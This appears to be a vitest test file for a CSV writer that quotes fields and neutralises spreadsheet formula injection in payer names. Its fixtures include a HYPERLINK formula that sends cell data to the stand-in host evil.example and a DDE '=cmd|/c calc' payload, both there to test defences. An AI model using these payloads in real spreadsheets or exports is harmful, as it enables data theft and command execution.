import { Readable, Writable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { pipeline } from 'node:stream/promises';
import { describe, expect, it } from 'vitest';
import { type CsvCell, csvWriter, neutraliseFormula } from './csv-writer.ts';

/** The CSV the writer makes of `rows`, its bytes decoded as UTF-8 (the BOM kept: TextDecoder would drop it). */
const csvOf = async (rows: CsvCell[][]) =>
  (await buffer(Readable.from([rows]).pipe(csvWriter()))).toString('utf8');
const BOM = '\uFEFF';

describe('csvWriter', () => {
  it('writes RFC 4180: a BOM, CRLF after every record, quotes around "," and doubled "', async () => {
    const csv = await csvOf([
      ['id', 'name', 'amount'],
      ['txn_1', 'Obi, Ada "the payer"', 5000],
    ]);
    expect(csv).toBe(`${BOM}id,name,amount\r\ntxn_1,"Obi, Ada ""the payer""",5000\r\n`);
  });

  it('quotes a cell holding CRLF, a lone LF or a lone CR, so no row breaks', async () => {
    const csv = await csvOf([['a\r\nb', 'c\nd', 'e\rf']]);
    expect(csv).toBe(`${BOM}"a\r\nb","c\nd","e\rf"\r\n`);
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    ],
    ['+2348012345678', `"'+2348012345678"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=cmd|/c calc!A0', `"'\t=cmd|/c calc!A0"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the payer name %j as text a spreadsheet shows, never runs', async (name, cell) => {
    const csv = await csvOf([[name, 700]]);
    expect(csv).toBe(`${BOM}${cell},700\r\n`);
  });

  it('leaves ordinary text, a formula character past the first, and UTF-8 names as they are', async () => {
    const csv = await csvOf([['Adébáyọ̀ Ọlá', 'a=b', 'x-y@z', '']]);
    expect(csv).toBe(`${BOM}Adébáyọ̀ Ọlá,a=b,x-y@z,\r\n`);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('writes signed amounts (numbers the service computed) as numbers, not neutralised', async () => {
    const csv = await csvOf([[-5000, 0, 12_345_678_901, null]]);
    expect(csv).toBe(`${BOM}-5000,0,12345678901,\r\n`);
  });

  it('refuses a number cell that is not a safe integer (a fault of the caller, not a cell to guess)', async () => {
    await expect(csvOf([[1.5]])).rejects.toThrow(/safe integer/);
    await expect(csvOf([[Number.NaN]])).rejects.toThrow(/safe integer/);
  });
});

it('writes a page as one chunk, the BOM once at the start of the first', async () => {
  const chunks: string[] = [];
  const collect = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(chunk.toString('utf8'));
      done();
    },
  });
  await pipeline(
    Readable.from([
      [['id'], ['a']],
      [['b'], ['c']],
    ]),
    csvWriter(),
    collect,
  );
  expect(chunks).toEqual([`${BOM}id\r\na\r\n`, 'b\r\nc\r\n']);
});

describe('neutraliseFormula', () => {
  it('prefixes a quote to exactly the six formula starts', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
    for (const safe of ['x=', "'=", ' =1', '0', '', '\n=1']) expect(neutraliseFormula(safe)).toBe(safe);
  });
});
